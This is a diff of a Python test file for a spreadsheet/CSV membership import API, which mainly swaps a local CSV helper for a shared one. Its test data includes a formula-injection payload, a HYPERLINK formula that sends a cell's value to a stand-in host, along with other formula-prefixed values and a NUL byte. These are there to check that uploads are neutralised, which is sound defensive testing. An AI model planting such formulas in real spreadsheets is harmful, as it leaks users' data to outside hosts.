@@ -9,8 +9,10 @@ from kombel_runtime.auth import Role
 from kombel_runtime.testing.harness import RunningPlatform
 from kombel_runtime.testing.regions import fresh_kabkota
 from membership.imports.refusals import TOO_COMPLEX
+from membership.testing import csv_bytes, digits
+from membership.testing import finished_import as upload
 
-from .test_imports_api import digits, make_school, people_in, upload
+from .test_imports_api import make_school, people_in
 from .test_sheet_limits import (
     A1_AND_XFD1048576,
     SLIPPING_PAST,
@@ -23,12 +25,6 @@ from .test_sheet_limits import (
 pytestmark = pytest.mark.infra
 
 
-def as_csv(rows: list[list[str]]) -> bytes:
-    buffer = io.StringIO()
-    csv.writer(buffer).writerows(rows)
-    return buffer.getvalue().encode()
-
-
 def downloaded(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
 
@@ -39,8 +35,8 @@ async def test_formulas_in_uploaded_cells_come_back_as_text(platform: RunningPla
     staff = platform.auth(Role.DISTRICT_STAFF, kabkota=kabkota)
     link = '=HYPERLINK("http://contoh.id/?d="&B2,"Klik")'
     phone = "+62 812" + digits(8)
-    content = as_csv(
-        [
+    content = csv_bytes(
+        *[
             ["Nama Lengkap", "NUPTK", "No. HP/WA", "Jabatan", "NPSN Sekolah"],
             [link, digits(16), phone, "guru", npsn],
             ["@SUM(A1:A9)", "123", "", "-guru", npsn],  # refused: a NUPTK of 3 digits
@@ -72,7 +68,7 @@ async def test_a_sheet_reaching_xfd1048576_fails_its_import_and_the_platform_liv
     past = await upload(platform, "people", SLIPPING_PAST, staff, dry_run=True, name="b.xlsx")
     assert (past["status"], past["error"]) == ("failed", TOO_COMPLEX)
 
-    content = as_csv([["Nama Lengkap", "NUPTK", "NPSN Sekolah"], ["Rina", digits(16), npsn]])
+    content = csv_bytes(*[["Nama Lengkap", "NUPTK", "NPSN Sekolah"], ["Rina", digits(16), npsn]])
     after = await upload(platform, "people", content, staff, dry_run=False)
     assert (after["status"], after["created"]) == ("succeeded", 1)
     listed = await platform.client.get("/membership/imports", headers=staff)
@@ -113,8 +109,8 @@ async def test_control_characters_in_cells_never_reach_the_database(
     npsn = await make_school(platform, kabkota)
     staff = platform.auth(Role.DISTRICT_STAFF, kabkota=kabkota)
     filler = [[f"Guru {n}", "123", npsn] for n in range(400)]  # refused rows, past 8 KB
-    content = as_csv(
-        [
+    content = csv_bytes(
+        *[
             ["Nama Lengkap", "NUPTK", "NPSN Sekolah"],
             *filler,
             ["Rina\x00 Sitorus", digits(16), npsn],
